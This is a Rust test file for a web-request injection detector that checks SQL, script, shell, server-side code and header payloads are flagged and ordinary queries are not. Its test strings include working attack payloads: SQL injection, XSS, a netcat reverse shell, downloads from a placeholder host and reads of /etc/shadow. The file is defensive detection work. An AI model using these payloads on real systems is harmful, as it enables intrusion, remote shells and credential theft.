use super::{grammar, injected_code, languages_in, patterns, query_facts};

/// What `injected_code` reads in a query `q` of a request for `/`.
pub(super) fn query(q: &str) -> Option<&'static str> {
    injected_code(Some("/"), Some(q), None)
}

#[test]
fn every_pattern_compiles() {
    let sources = patterns();
    for (_, p) in &sources {
        regex::bytes::RegexBuilder::new(p)
            .case_insensitive(true)
            .unicode(false)
            .build()
            .unwrap_or_else(|e| panic!("{p}: {e}"));
    }
    assert_eq!(grammar().set.len(), sources.len());
}

/// SQL statements, stacked queries, subqueries, catalogues and closed quotes, encoded as
/// injection tools send them.
#[test]
fn sql_in_a_parameter_is_sql() {
    for q in [
        "id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--",
        "id=-1+union/**/select+1,2,version()",
        "cat=1/*!50000UNION*//*!50000SELECT*/1,2",
        "q=x%27%3B+DROP+TABLE+users%3B--",
        "id=1;insert into log(msg) values ('x')",
        "sort=(select+password+from+users+limit+1)",
        "name=admin%27--",
        "user=x%27+or+%271%27%3D%271",
        "pw=%22)+or+(%22a%22%3D%22a",
        "id=1+and+1%3D2",
        "q=select+*+from+accounts",
        "t=information_schema.tables",
        "v=1;exec+master..xp_cmdshell+%27dir%27",
        "a=1;waitfor+delay+%270:0:5%27",
        "x=create+function+f(s+char(20))+returns+char(50)+return+s",
        "id=%2527%2520or%25201%253D1",
        "id=1%0Bunion%0Bselect%0B1,2",
        "id=1+union/*x*/select+1,2",
        "id=1+union--x%0Aselect+1,2",
        "id=1+union(select+1,2)",
        "u=admin%27or%271%27=%271",
        "v=@@version",
        "t=if(now()=sysdate(),sleep(5),0)",
        "var=union%20select%20col%20from",
    ] {
        assert_eq!(query(q), Some("sql"), "{q}");
    }
}

#[test]
fn markup_and_script_are_script() {
    for q in [
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "q=<svg/onload=confirm`1`>",
        "name=<x:script xmlns:x=%22http://www.w3.org/1999/xhtml%22>",
        "redirect=javascript:alert(document.domain)",
        "cb=x%22;setTimeout(name,1)//",
        "s=%27-alert(1)-%27",
        "style=-moz-binding:url(http://x/x.xml%23x)",
        "d=data:text/html;base64,PHNjcmlwdD4=",
        "x=%3C%2Fscript%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "q=%27%22%3E%3Cb%3Ex",
        "u=java%09script:alert(1)",
    ] {
        assert_eq!(query(q), Some("script"), "{q}");
    }
}

#[test]
fn shell_invocations_are_shell() {
    for q in [
        "cmd=sh+-c+%22id%22",
        "code=busybox+wget+http://198.51.100.7/x",
        "c=echo+aWQ%3D|base64+-d|sh",
        "x=wget+-q+http://198.51.100.7/a.sh",
        "f=cat+/etc/shadow",
        "p=Invoke-WebRequest+http://198.51.100.7/p.ps1",
        "c=cmd.exe+/c+whoami",
        "u=mshta+http://198.51.100.7/a.hta",
        "r=;reg+add+HKLM\\Software\\x",
        "x=powershell+-enc+SQBFAFgA",
        "c=Invoke-Expression+(iwr+http://198.51.100.7/a)",
        "ip=%24(id)",
        "ip=127.0.0.1%0Aid",
        "ip=x||whoami",
        "ip=x%26%26ls+-la",
    ] {
        assert_eq!(query(q), Some("shell"), "{q}");
    }
}

#[test]
fn server_side_code_is_code() {
    for q in [
        "x=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
        "tpl={php}echo 1;{/php}",
        "a=$_SERVER[%27HTTP_HOST%27]",
        "f=php://filter/convert.base64-encode/resource=index",
        "file=data://text/plain;base64,PD9waHA=",
        "x=base64_decode(%27aWQ=%27)",
        "__proto__[isAdmin]=true",
        "a[constructor][prototype][x]=1",
        "n=require(%27child_process%27).execSync(%27id%27)",
        "name={{7*7}}",
        "name=%23%7Bprocess.mainModule%7D",
        "x=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
        "s=ssh2.exec://u:p@h/id",
        "name={{7*%277%27}}",
    ] {
        assert_eq!(query(q), Some("code"), "{q}");
    }
}

/// What people and applications send: searches with quotes and SQL-sounding words, e-mail
/// addresses, JSON and filters, redirects, dates, code words in prose.
#[test]
fn ordinary_parameters_are_not_code() {
    for q in [
        "q=select+a+plan+from+the+list",
        "q=O%27Reilly+and+sons",
        "q=rock+%27n%27+roll",
        "q=union+station+parking",
        "q=drop+down+menu",
        "q=insert+into+cart",
        "q=update+your+profile",
        "q=%22exact+phrase%22+and+more",
        "q=it%27s+a+5%25+or+10%25+discount",
        "email=jane.doe%2Btag@example.com",
        "filter={%22status%22:[%22open%22,%22closed%22]}",
        "next=/account/orders?id=5&sort=-created_at",
        "from=2024-01-01T00:00:00Z&to=2024-01-31",
        "fields=id,name,price(amount,currency)",
        "q=how+to+use+sh+in+scripts",
        "q=curl+tutorial",
        "q=system+design+interview",
        "q=5+%3C+x+%3E+2",
        "_=1717171717171&callback=jQuery3600_1717",
        "_g=(time:(from:now-15m,to:now))&_a=(query:(language:kuery,query:''))",
        "q=Tom%27s+and+Jerry%27s",
        "q=C%23+and+F%23",
        "utm_source=news&utm_medium=email&utm_campaign=spring_sale",
        "q=%E2%80%9Cquoted%E2%80%9D+text",
        "redirect_uri=http://127.0.0.1:8765/callback&state=a1b2",
        "q=European+Union+Select+Committee",
        "label=Select+file(s)+from+your+computer",
        "hint=(select+one+from+the+list+below)",
        "jql=project+%3D+%22Web+Team%22+AND+status+%3D+Done",
        "where=STATE_NAME%3D%27Texas%27+AND+POP2000%3E1000000",
        "review=She+said+%22yes%22+--+then+left",
        "paths=[%22/*%22,%22/api/*%22]",
        "data=BEGIN:VEVENT%0ALOCATION:Room+4%0AX-ALT-DESC:none",
        "item=Bose+Sound+System+(%24499)",
        "q=IEx+(Interactive+Elixir)",
        "q=powershell+-+execution+policy",
        "dt=Shell+Scripting+Tutorial+|+Bash",
        "link=javascript%3Avoid(0)",
        "logo=data:image/svg%2bxml;base64,PHN2Zz4=",
        "html=%3Cdiv+class%3D%22a%22%3E%3Cspan%3Ehi%3C/span%3E%3C/div%3E",
        "q=done;+execute+next+step",
        "filter=price%3Cmax+onsale%3Dtrue",
        "q=__proto__+vs+prototype",
        "msg=at+java.lang.System.arraycopy(Native+Method)",
        "q=curl+https://api.example.com/v1/items+-H+%27Accept:+json%27",
        // From a second reviewer's set of ordinary traffic.
        "q=curl+cream+%26+gel",
        "q=bicep+curl+|+dumbbell",
        "action_name=Using+curl+in+PHP+|+Stack+Overflow",
        "q=How+to+use+echo+in+Linux+|+Bash+Scripting",
        "returnUrl=javascript:history.back()",
        "t=javascript:__doPostBack(%27ctl00%24x%27,%27%27)",
        "q=%22Amber%22+-+Alert+(2023+film)",
        "q=Philadelphia+Union+select+2+players+in+SuperDraft",
        "q=select+size,+color+from+menu",
        "q=drop+table+lamp",
        "q=python+delete+from+list+where+value",
        "q=update+iphone+set+time+=+auto",
        "q=laptop+freezes%3B+shutdown",
        "jql=project+%3D+%22ABC%22+AND+%22Epic+Link%22+%3D+%22ABC-123%22",
        "q=1+and+1+%3D+2",
        "err=subprocess.Popen([%27ls%27])",
        "msg=os.system(%27ls%27)+failed",
        "q=powershell+-contains",
        "q=%3Cscript%3E+defer",
        "dl=data:text/plain;charset=utf-8,hello",
        "html=%3Cmeta+http-equiv%3D%22X-UA-Compatible%22%3E",
        "q=file+type+C:%5CTemp",
        "text=%7B%7B%23expr:+60*60*24%7D%7D",
        "fields=name;id;email",
        "js=%24(document).ready(init)",
        "note=my+pet%0Acat",
        "q=true||false",
        "q=Tom+%26%26+Jerry",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}

/// Browsers' and tools' user agents carry `;`, `(` and spaces, never code; tools naming
/// themselves with shell words (`curl`) are not shell.
#[test]
fn user_agents_are_not_code_unless_they_carry_it() {
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.31.0",
        "MyApp/1.0 (iPhone; Update 3; Select Edition)",
    ] {
        assert_eq!(injected_code(Some("/"), None, Some(ua)), None, "{ua}");
    }
    assert_eq!(
        injected_code(Some("/"), None, Some("<script>alert(1)</script>")),
        Some("script")
    );
    assert_eq!(
        injected_code(Some("/"), None, Some("x' or 1=1-- ")),
        Some("sql")
    );
}

#[test]
fn paths_carry_code_too() {
    // Paths need more than `.`, `-` and `_` to be read at all.
    for path in [
        "/static/app.min.js",
        "/docs/getting-started",
        "/api/v1/user_profile",
    ] {
        assert!(!super::may_hold_code(path, super::NEEDED_IN_PATH), "{path}");
    }
    assert_eq!(
        injected_code(Some("/api/child_process.html"), None, None),
        None
    );
    assert_eq!(
        injected_code(
            Some("/$%7Bprocess.env.REACT_APP_API_URL%7D/api/users"),
            None,
            None
        ),
        None
    );
    assert_eq!(
        injected_code(
            Some("/products/1%20union%20select%20password%20from%20users"),
            None,
            None
        ),
        Some("sql")
    );
    assert_eq!(
        injected_code(Some("/files/My%20Report%20(final).pdf"), None, None),
        None
    );
}

/// Long hostile values stay linear: a megabyte of what the patterns look for costs one pass.
/// Random punctuation, the worst case for a set of patterns with bounded repeats (a
/// reviewer's 8 KiB values of `<a /'"=o` took 38 ms each while the patterns held repeats such as
/// `{0,400}`; they hold none above 8 now): a mebibyte of it, in one value and in 8 KiB values,
/// is read in well under the bound on any machine (it takes milliseconds), so a slow machine
/// does not fail this, a pathological pattern does.
#[test]
fn random_punctuation_is_read_in_linear_time() {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let alphabet = b"<a /'\"=o";
    let text: String = (0..1 << 20)
        .map(|_| alphabet[(next() % alphabet.len() as u64) as usize] as char)
        .collect();
    let started = std::time::Instant::now();
    let _ = languages_in(&text);
    for chunk in text.as_bytes().chunks(8 << 10) {
        let _ = languages_in(std::str::from_utf8(chunk).unwrap_or(""));
    }
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "random punctuation took {:?}",
        started.elapsed()
    );
}

#[test]
fn long_repeated_values_are_read_once() {
    const MIB: usize = 1 << 20;
    for unit in [
        "<a ", "' or ", "{{", "select ", "/**/", "|", "%27", "a'", "&#0", "$a", "\\",
    ] {
        let q = format!("v={}", unit.repeat(MIB / unit.len()));
        let started = std::time::Instant::now();
        let _ = query_facts(Some(&q));
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{unit:?} repeated took {:?}",
            started.elapsed()
        );
    }
}

/// A text without a byte of the gate is answered without the patterns: the patterns
/// themselves must find nothing in such texts either. Every pair of the words the patterns
/// are built from, joined without a separator, is such a text.
#[test]
fn the_gate_skips_only_texts_no_pattern_matches() {
    let words = [
        "union",
        "all",
        "select",
        "null",
        "1",
        "from",
        "users",
        "or",
        "and",
        "insert",
        "into",
        "values",
        "exec",
        "xp",
        "cmdshell",
        "information",
        "schema",
        "version",
        "sysdate",
        "sleep",
        "script",
        "javascript",
        "alert",
        "onload",
        "svg",
        "sh",
        "c",
        "cmd",
        "wget",
        "curl",
        "http",
        "invoke",
        "expression",
        "iex",
        "php",
        "filter",
        "data",
        "require",
        "childprocess",
        "proto",
        "constructor",
        "prototype",
        "java",
        "lang",
        "runtime",
        "setcookie",
        "x0a",
        "version",
        "7",
        "id",
        "etc",
        "passwd",
    ];
    for a in words {
        for b in words {
            let text = format!("{a}{b}");
            assert!(!super::may_hold_code(&text, super::NEEDED), "{text}");
            assert!(!grammar().set.is_match(text.as_bytes()), "{text}");
        }
    }
    assert_eq!(query("constructor.prototype.polluted=1"), Some("code"));
}

#[test]
fn a_header_after_a_line_break_is_header_injection() {
    for q in [
        "lang=en%0d%0aSet-Cookie:%20x=1",
        "r=%0aAccess-Control-Allow-Origin:%20*",
        "next=/%0D%0AContent-Length:%200",
    ] {
        assert_eq!(query(q), Some("header"), "{q}");
    }
    for q in [
        "note=line%20one%0Aline%20two",
        "msg=Dear%20team,%0D%0Athanks%20a%20lot",
    ] {
        assert_eq!(query(q), None, "{q}");
    }
}

/// One decoded text per pattern, in the order of [`patterns`]: each matches its pattern and
/// passes the gate, so no pattern is dead and the gate skips none of them.
const ONE_PER_PATTERN: &[&str] = &[
    "1 union all select null,null--",
    "select concat(user,0x3a,password) from users",
    "(select password from users)",
    "1;drop table users",
    "insert into t(a) values (1)",
    "delete from users where id=1",
    "update users set role='admin'",
    "exec master..xp_cmdshell 'dir'",
    "create function f(s char(20)) returns char(50)",
    "1 and @@version",
    "x' or '1'='1",
    "admin'--",
    "1 or 1=1",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "1' order by 10-- -",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "\"><b>",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)",
    "\";setTimeout(name,1)//",
    "x:expression;-moz-binding:url(x)",
    "data:text/html;base64,PHA+",
    "en\r\nSet-Cookie: a=1",
    "sh -c id",
    "echo aWQ= | base64 -d | sh",
    "wget http://198.51.100.7/x",
    "cat /etc/shadow",
    "iex(New-Object Net.WebClient)",
    "mshta http://198.51.100.7/a.hta",
    "nc -e /bin/sh 198.51.100.7 4444",
    "x||whoami",
    "<?php echo 1; ?>",
    "$_GET['x']",
    "phpinfo()",
    "php://filter/resource=x",
    "__proto__[admin]",
    "{{7*7}}",
    "java.lang.Runtime.getRuntime()",
    "1 union/**/select",
    "/*!50000union*/",
    "select@^1.from`test`",
    "select user from dual",
    "(alert)(1)",
    "<img/src=x/onerror=x",
    "/e?c/?asswd",
    "$(printf 'x'|rev)",
    "`id`",
    "| set /a 3482*7301",
    "<!--#exec cmd=\"ls\" -->",
    "true, $where: '1 == 1'",
    "*(|(objectclass=*))",
    "\nRCPT TO: a@b.example",
];

#[test]
fn each_pattern_has_an_example_that_passes_the_gate() {
    let g = grammar();
    assert_eq!(
        ONE_PER_PATTERN.len(),
        g.set.len(),
        "one example per pattern"
    );
    for (i, text) in ONE_PER_PATTERN.iter().enumerate() {
        assert!(super::may_hold_code(text, super::NEEDED), "{text}");
        assert!(
            g.set.matches(text.as_bytes()).matched(i),
            "pattern {i} misses {text:?}"
        );
    }
}
